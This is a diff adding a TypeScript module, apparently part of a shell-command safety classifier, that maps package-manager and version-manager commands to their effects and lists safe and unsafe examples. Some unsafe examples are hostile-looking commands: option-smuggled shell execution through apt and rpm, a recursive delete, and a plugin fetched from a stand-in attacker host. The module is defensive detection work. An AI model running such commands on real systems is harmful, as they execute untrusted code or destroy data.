@@ -1,0 +1,375 @@
+/** Package managers of operating systems, and version managers for tools. */
+import { each, fixed, line, network, runs, task, texts } from "./makers.ts";
+import { installs, removes, runsBehind, wholly } from "./packages-effects.ts";
+import type { CommandSpec, EffectMaker, ProgramSpec } from "./spec.ts";
+
+const APT_FLAGS =
+  "-y --yes --assume-yes -q -qq --quiet -f --fix-broken -m --fix-missing --no-install-recommends --install-recommends --reinstall --only-upgrade --allow-downgrades --allow-unauthenticated --force-yes -s --simulate --dry-run --purge --auto-remove --autoremove -d --download-only --no-upgrade --allow-change-held-packages --allow-releaseinfo-change -u -V --show-upgraded";
+const APT_VALUES = texts("-t --target-release");
+/** `-o` and `-c` can name programs that apt then runs. */
+const APT_RUNS = "-o --option -c --config-file";
+const aptSpec = (spec: CommandSpec): CommandSpec => ({
+  flags: APT_FLAGS,
+  values: { ...APT_VALUES, "-o": "text", "--option": "text", "-c": "read", "--config-file": "read" },
+  runsCode: APT_RUNS,
+  operands: "text",
+  ...spec,
+});
+const aptLooks = aptSpec({
+  flags: `${APT_FLAGS} --installed --upgradable --upgradeable --all-versions -a --names-only -n --full`,
+});
+
+const apt: Record<string, CommandSpec> = {
+  ...each(
+    "list show search policy depends rdepends showpkg showsrc madison pkgnames dumpavail stats changelog-local",
+    aptLooks,
+  ),
+  ...each("install reinstall build-dep satisfy", aptSpec({ always: [installs(null, "a system package")] })),
+  ...each(
+    "upgrade full-upgrade dist-upgrade",
+    aptSpec({ always: [fixed("package", "change", "every system package"), network(null, false)] }),
+  ),
+  update: aptSpec({ always: [fixed("package", "read", "lists of packages"), network(null, false)] }),
+  ...each(
+    "remove purge autoremove auto-remove",
+    aptSpec({ always: [removes, fixed("package", "delete", "system packages")] }),
+  ),
+  ...each("clean autoclean auto-clean", aptSpec({ always: [fixed("package", "delete", "downloaded packages")] })),
+  ...each(
+    "source download changelog",
+    aptSpec({ always: [network(null, false), (use) => [{ do: "write", target: use.cwd, recursive: true }]] }),
+  ),
+  ...each("mark-auto edit-sources", wholly(fixed("package", "change", "package sources"))),
+};
+
+const addsSource = fixed("package", "change", "where system packages come from");
+const systemPackage = installs(null, "a system package");
+
+/** `pacman -Q…` asks the local database; everything else changes it or fetches. */
+const pacman: EffectMaker = (use) => {
+  const first = use.operands[0]?.value ?? "";
+  if (/^-Q[a-z]*$/.test(first)) return [];
+  if (/^-S[sil]+$/.test(first)) return [network(null, false)];
+  if (first.startsWith("-R"))
+    return [{ do: "package", op: "delete", detail: "a system package", on: use.operands[1]?.value ?? null }];
+  return [
+    { do: "package", op: "create", detail: "a system package", on: line(use.operands.slice(1)) },
+    network(null, false),
+  ];
+};
+
+const brewNet = network("formulae.brew.sh", false);
+const trusted: EffectMaker = runs("helper", "the project's own configuration may run code");
+
+export const packagesSystem: readonly ProgramSpec[] = [
+  {
+    names: ["apt", "apt-get", "apt-cache", "aptitude", "apt-mark"],
+    style: "posix",
+    flags: `${APT_FLAGS} --version -v --help -h`,
+    values: { ...APT_VALUES, "-o": "text", "--option": "text", "-c": "read", "--config-file": "read" },
+    runsCode: APT_RUNS,
+    operands: { max: 0 },
+    commands: {
+      ...apt,
+      ...each("hold unhold auto manual", wholly(fixed("package", "change", "which packages are kept"))),
+      ...each("showhold showauto showmanual", aptLooks),
+    },
+    examples: {
+      safe: ["apt list --installed", "apt-cache policy curl", "apt show curl", "apt-get --version"],
+      unsafe: [
+        ["apt-get install -y curl", "package"],
+        ["apt-get update", "network"],
+        ["apt-get -y remove curl", "package"],
+        ["apt-get install -o DPkg::Pre-Invoke::=sh curl", "run"],
+        ["apt-get update -o APT::Update::Pre-Invoke::=sh", "run"],
+        ["apt-get dist-upgrade", "package"],
+      ],
+    },
+  },
+  {
+    names: ["dpkg", "dpkg-query"],
+    flags:
+      "-l --list -L --listfiles -s --status -S --search -p --print-avail --get-selections --print-architecture --version --help -W --show -C --audit -V --verify -I --info -c --contents",
+    values: texts("-f --showformat"),
+    runsCode: "-i --install -r --remove -P --purge --configure --unpack -x --extract -X --force-all",
+    when: {
+      "-i": [systemPackage],
+      "--install": [systemPackage],
+      "-r": [removes],
+      "--remove": [removes],
+      "-P": [removes],
+      "--purge": [removes],
+    },
+    operands: "text",
+    examples: {
+      safe: ["dpkg -l", "dpkg -L curl", "dpkg-query -W -f '${Version}' curl"],
+      unsafe: [
+        ["dpkg -i x.deb", "package"],
+        ["dpkg --purge curl", "package"],
+      ],
+    },
+  },
+  {
+    names: ["rpm"],
+    flags:
+      "-q --query -a --all -i --info -l --list -f --file -c -d --requires --provides --changelog --whatprovides --version --help -R",
+    values: texts("--qf --queryformat"),
+    operands: "text",
+    read: (use) =>
+      use.options.has("-q") || use.options.has("--query") || use.options.has("--version") || use.options.has("--help")
+        ? { understood: true, effects: [] }
+        : {
+            understood: true,
+            effects:
+              use.operands.length > 0
+                ? [{ do: "package", op: "create", detail: "a system package", on: use.operands[0]?.value ?? null }]
+                : [],
+          },
+    examples: {
+      safe: ["rpm -qa", "rpm -qi curl"],
+      unsafe: [
+        ["rpm -i x.rpm", "package"],
+        ["rpm --eval '%(id)'", "understood"],
+      ],
+    },
+  },
+  {
+    names: [
+      "dnf",
+      "yum",
+      "zypper",
+      "apk",
+      "microdnf",
+      "tdnf",
+      "emerge",
+      "xbps-install",
+      "nix-env",
+      "port",
+      "pkg",
+      "opkg",
+    ],
+    style: "posix",
+    flags:
+      "-y --assumeyes -q --quiet --no-cache --nogpgcheck --allow-untrusted --version --help -h -n --non-interactive -U --update-cache -i -v",
+    values: texts("--enablerepo --disablerepo --repo -X --repository"),
+    operands: { max: 0 },
+    commands: {
+      ...each("list search info repolist provides check-update repoquery se policy", {
+        style: "words",
+        operands: "text",
+        always: [network(null, false)],
+      }),
+      ...each("install in localinstall groupinstall add reinstall", {
+        flags: "-y --assumeyes -q --no-cache --nogpgcheck --allow-untrusted --virtual -t -U",
+        values: texts("--enablerepo -X --repository"),
+        operands: "text",
+        always: [systemPackage],
+      }),
+      ...each("remove erase rm autoremove del uninstall purge delete", {
+        flags: "-y --assumeyes -q",
+        operands: "text",
+        always: [removes],
+      }),
+      ...each(
+        "upgrade update up dup distro-sync fix clean makecache refresh selfupdate",
+        wholly(fixed("package", "change", "system packages"), network(null, false)),
+      ),
+      ...each("config-manager addrepo ar module copr", wholly(addsSource)),
+      "*": wholly(fixed("package", "change", "system packages")),
+    },
+    examples: {
+      safe: ["apk --version"],
+      unsafe: [
+        ["dnf install -y nginx", "package"],
+        ["apk add --no-cache curl", "package"],
+        ["yum remove httpd", "package"],
+        ["dnf list", "network"],
+      ],
+    },
+  },
+  {
+    names: ["pacman", "yay", "paru"],
+    style: "words",
+    operands: "text",
+    always: [pacman],
+    examples: {
+      safe: ["pacman -Q", "pacman -Qi curl"],
+      unsafe: [
+        ["pacman -Syu", "package"],
+        ["pacman -Rns curl", "package"],
+        ["yay -S x", "package"],
+      ],
+    },
+  },
+  {
+    names: ["brew"],
+    style: "posix",
+    flags: "--version -v --help -h --prefix --cellar --repository --cache -q --quiet --verbose -d --debug",
+    operands: "text",
+    commands: {
+      ...each("list ls leaves config --prefix deps uses outdated info search desc home cat doctor", {
+        style: "words",
+        operands: "text",
+        always: [brewNet],
+      }),
+      ...each("install reinstall upgrade", {
+        flags: "--cask --casks --formula --force -f -q --quiet --HEAD --build-from-source -s --overwrite",
+        operands: "text",
+        always: [installs("formulae.brew.sh")],
+      }),
+      ...each("uninstall remove rm autoremove cleanup", {
+        flags: "--cask --force -f --zap --ignore-dependencies -s",
+        operands: "text",
+        always: [removes, fixed("package", "delete", "packages")],
+      }),
+      ...each("update upgrade-all bundle", wholly(fixed("package", "change", "packages"), brewNet)),
+      ...each("tap untap", wholly(addsSource, brewNet)),
+      services: wholly(fixed("persist", "change", "a service that starts with the machine")),
+      ...each("link unlink pin unpin", wholly(fixed("package", "change", "packages"))),
+      "*": wholly(runs("unknown-program", "a brew command of someone's own")),
+    },
+    examples: {
+      safe: ["brew --version", "brew --prefix"],
+      unsafe: [
+        ["brew install jq", "package"],
+        ["brew services start postgresql", "persist"],
+        ["brew tap a/b", "package"],
+        ["brew uninstall jq", "package"],
+      ],
+    },
+  },
+  {
+    names: ["snap", "flatpak"],
+    flags: "--version --help -h",
+    operands: { max: 0 },
+    commands: {
+      ...each("list info find search version services", {
+        style: "words",
+        operands: "text",
+        always: [network(null, false)],
+      }),
+      ...each("install refresh update", {
+        flags: "-y --assumeyes --classic --dangerous --devmode --user --system --edge",
+        values: texts("--channel"),
+        operands: "text",
+        always: [systemPackage],
+      }),
+      ...each("remove uninstall", { flags: "-y --purge --unused", operands: "text", always: [removes] }),
+      ...each("run", wholly(runs("unknown-program", "a packaged program"))),
+      "*": wholly(fixed("package", "change", "system packages")),
+    },
+    examples: {
+      safe: [],
+      unsafe: [
+        ["snap install lxd", "package"],
+        ["flatpak run x", "run"],
+      ],
+    },
+  },
+  {
+    names: ["nix", "nix-shell", "nix-build", "devbox", "guix"],
+    launcher: true,
+    style: "words",
+    operands: "text",
+    always: [task("builds or runs packages"), network(null, false)],
+    examples: {
+      safe: [],
+      unsafe: [
+        ["nix run nixpkgs#cowsay", "run"],
+        ["nix-shell -p jq --run 'jq .'", "run"],
+      ],
+    },
+  },
+  {
+    names: ["add-apt-repository", "apt-key"],
+    style: "words",
+    operands: "text",
+    always: [addsSource, fixed("security", "change", "whose packages are trusted")],
+    examples: { safe: [], unsafe: [["add-apt-repository ppa:x/y", "package"]] },
+  },
+  {
+    names: ["mise", "rtx"],
+    style: "posix",
+    flags: "--version -V --help -h -q --quiet -v --verbose -y --yes --silent",
+    values: { "-C": "cwd", "--cd": "cwd", ...texts("-E --env -j --jobs") },
+    operands: { max: 0 },
+    commands: {
+      ...each(
+        "run r",
+        wholly((use) => [{ do: "run", program: "mise", what: "task", task: line(use.operands), detail: "mise task" }]),
+      ),
+      ...each("exec x", {
+        style: "words",
+        operands: "text",
+        read: (use) => {
+          const dashes = use.operands.findIndex((word) => word.value === "--");
+          const command = use.operands.findIndex((word) => word.value === "-c" || word.value === "--command");
+          const effect = {
+            do: "run",
+            program: "mise",
+            what: "task",
+            task: `exec ${line(use.operands)}`,
+            detail: "in the project's environment",
+          } as const;
+          const code = command < 0 ? undefined : use.operands[command + 1]?.value;
+          if (code) return { understood: true, effects: [effect], inner: [{ kind: "script", code, via: "mise exec" }] };
+          return dashes < 0
+            ? { understood: false, why: "mise exec without --", effects: [effect] }
+            : {
+                understood: true,
+                effects: [effect],
+                inner: [{ kind: "words", words: use.operands.slice(dashes + 1), via: "mise exec", moreWords: false }],
+              };
+        },
+      }),
+      ...each(
+        "ls list current where which bin-paths doctor tasks t env settings config version ls-remote",
+        wholly(trusted),
+      ),
+      ...each(
+        "install i use u upgrade up uninstall rm prune plugins plugin",
+        wholly(fixed("package", "change", "tools"), trusted, network(null, false)),
+      ),
+      ...each("trust untrust", wholly(fixed("security", "change", "a configuration that may run code is trusted"))),
+      ...each(
+        "activate deactivate set unset alias self-update implode reshim",
+        wholly(fixed("persist", "change", "tool versions or the shell")),
+      ),
+      ...each("watch w", wholly(task("mise task"))),
+      "*": wholly((use) => [
+        { do: "run", program: "mise", what: "task", task: line(use.operands), detail: "mise task" },
+      ]),
+    },
+    examples: {
+      safe: ["mise --version"],
+      unsafe: [
+        ["mise run test -- -run TestX", "run"],
+        ["mise exec -- rm -rf x", "delete"],
+        ["mise install", "package"],
+        ["mise trust", "security"],
+        ["mise ls", "run"],
+      ],
+    },
+  },
+  {
+    names: ["asdf"],
+    style: "posix",
+    flags: "--version --help",
+    operands: { max: 0 },
+    commands: {
+      ...each("list current where which info version", { style: "words", operands: "text", always: [trusted] }),
+      exec: { style: "words", operands: "text", read: runsBehind("", "", "asdf exec") },
+      ...each(
+        "install uninstall plugin plugin-add global local shell set latest reshim update",
+        wholly(fixed("package", "change", "tools"), network(null, false), task("plugins are code")),
+      ),
+    },
+    examples: {
+      safe: ["asdf --version"],
+      unsafe: [
+        ["asdf install nodejs 20", "package"],
+        ["asdf plugin add x https://evil.example/x", "package"],
+      ],
+    },
+  },
+];
